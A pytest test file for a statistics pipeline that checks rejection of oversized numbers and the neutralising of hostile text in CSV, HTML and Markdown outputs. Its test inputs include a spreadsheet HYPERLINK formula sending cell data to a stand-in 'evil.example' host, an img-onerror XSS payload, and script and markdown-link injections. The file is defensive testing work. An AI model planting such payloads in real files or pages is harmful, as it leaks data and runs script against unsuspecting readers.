"""Hostile content: numbers that break arithmetic, text leaving through side doors, a sheet
judged by the rows really there."""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import pytest

from cj_pipeline.lib.core.cells import MAX_COUNT, parse_count
from cj_pipeline.lib.core.problems import CellProblem
from cj_pipeline.lib.publish.control import Policy
from cj_pipeline.lib.publish.safety import TextTooLong, md, neutralise, safe_cell_text
from cj_pipeline.lib.reporting.chase import ChaseRow, markdown_table, write_csv
from cj_pipeline.lib.returns.validate import validate_bytes
from cj_pipeline.settings import get_settings

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
COMPLETE_CSV = (FIXTURES / "pass" / "complete.csv").read_text(encoding="utf-8")


def _csv_with(edit) -> bytes:
    rows = list(csv.reader(io.StringIO(COMPLETE_CSV)))
    edit(rows)
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def _validate(data: bytes) -> dict:
    result = validate_bytes(data, "fife_2023-24.csv", get_settings())
    return {"accepted": result.accepted, "codes": {i.code for i in result.issues if i.severity == "error"}}


# --- numbers that break arithmetic ----------------------------------------------------------


@pytest.mark.parametrize(("text", "code"), [("1E+308", "not_a_number"), ("200000000", "implausible_count")])
def test_huge_numerator_and_denominator_are_rejected(text, code):
    def edit(rows):
        for row in rows:
            if row[2] == "Local measures" and row[3] == "LM6.2":
                row[5] = text

    verdict = _validate(_csv_with(edit))
    assert not verdict["accepted"] and code in verdict["codes"]


def test_1e308_numerator_and_denominator_in_a_workbook_are_rejected(tmp_path):
    import openpyxl

    workbook = openpyxl.load_workbook(FIXTURES / "pass" / "complete.xlsx")
    workbook["Local measures"]["C5"], workbook["Local measures"]["D5"] = 1e308, 1e308
    workbook.save(tmp_path / "huge.xlsx")
    result = validate_bytes((tmp_path / "huge.xlsx").read_bytes(), "fife_2023-24.xlsx", get_settings())
    assert not result.accepted
    huge = [i for i in result.issues if i.code == "number_too_large"]
    assert {i.cell for i in huge} == {"C5", "D5"} and "1E+308" in huge[0].guidance


def test_count_bound_and_publication_never_overflow():
    assert MAX_COUNT >= 10 * 5_500_000  # well above any real count (see cells.py for why)
    with pytest.raises(CellProblem):
        parse_count(1e308)
    policy = Policy()
    for value in (math.inf, -math.inf, math.nan):
        assert policy.round(value, "count") is None and policy.round(value, "percent") is None


def test_dbt_marks_or_refuses_non_finite_values():
    sql = (Path(__file__).resolve().parents[2] / "dbt_project" / "tests" / "generic" / "row_contract.sql").read_text()
    assert "isfinite" in sql


# --- text leaving through side doors (formulas, links, markup) ------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "[click](http://evil.example)",
    "<img src=x onerror=alert(1)>",
]


def test_one_function_neutralises_every_format():
    for text in HOSTILE:
        assert not neutralise(text, "csv").startswith("=")
        assert "<img" not in neutralise(text, "html")
        rendered = neutralise(text, "markdown")
        assert "<img" not in rendered and "](" not in rendered and "http://" not in rendered
    assert neutralise("line one\n# heading", "markdown").count("\n") == 0
    with pytest.raises(ValueError):
        neutralise("x", "pdf")


def test_chase_csv_and_markdown_are_inert(tmp_path):
    row = ChaseRow(
        area_code="S12000033",
        area_name="![x](http://evil.example/p.png) <img src=x>",
        status="no_return",
        missing=HOSTILE[1],
        since="2024-01-01",
        contact_email=HOSTILE[0],
    )
    path = write_csv([row], tmp_path / "chase.csv")
    [written] = list(csv.DictReader(path.open(encoding="utf-8")))
    assert written["contact_email"].startswith("'=")
    table = markdown_table([row])
    assert "<img" not in table and "](" not in table and "![" not in table


def test_override_reason_is_inert_in_release_notes():
    from cj_pipeline.lib.publish.release import _notes_markdown

    notes = {
        "release_id": "r1",
        "override_reason": "ok\n# Pwned <script>x</script> [a](http://e.x)",
        "overridden_checks": ["c"],
    }
    text = _notes_markdown("2023-24", notes, Policy())
    assert "<script>" not in text and "\n# Pwned" not in text and "](http" not in text


def test_text_too_long_for_xlsx_is_refused_at_intake_and_never_cut():
    long = "x" * 40_000

    def edit(rows):
        for row in rows:
            if row[2] == "Local evidence" and row[4] == "Commentary":
                row[5] = long
                break

    verdict = _validate(_csv_with(edit))
    assert not verdict["accepted"] and "cell_text_too_long" in verdict["codes"]
    with pytest.raises(TextTooLong):
        safe_cell_text(long)  # publishing to xlsx refuses rather than cuts
    assert md(long) == long  # other formats keep it whole


# --- a sheet is judged by the rows really there ---------------------------------------------


def test_a_dimension_claiming_the_whole_grid_on_a_9_row_sheet_is_accepted(tmp_path):
    import re

    from tests.hostile.make_corpus import _edit_sheet, _valid_bytes

    valid = _valid_bytes(tmp_path)
    lying = _edit_sheet(
        valid, "Local measures", lambda x: re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', x)
    )
    result = validate_bytes(lying, "aberdeen.xlsx", get_settings())
    assert result.accepted, [i.message for i in result.issues]
    assert not any("1,048,576" in i.message for i in result.issues)


def test_markdown_shows_every_class_of_area_text_verbatim():
    """Release notes and the Dagster UI's Markdown: rendered, each text reads exactly as written
    (on one line) and makes no link, image, HTML, emphasis, heading or list of its own."""
    from markdown_it import MarkdownIt

    from tests.fixtures.make_fixtures import HOSTILE_TEXTS

    for text in [*HOSTILE_TEXTS.values(), "two\nlines # not a heading", "* not a list", "1. not a list"]:
        tokens = MarkdownIt("commonmark").parse(f"Reason: {md(text)}\n")
        assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"], text
        children = tokens[1].children or []
        assert {c.type for c in children} <= {"text"}, (text, {c.type for c in children})
        assert "".join(c.content for c in children) == "Reason: " + " ".join(text.splitlines())
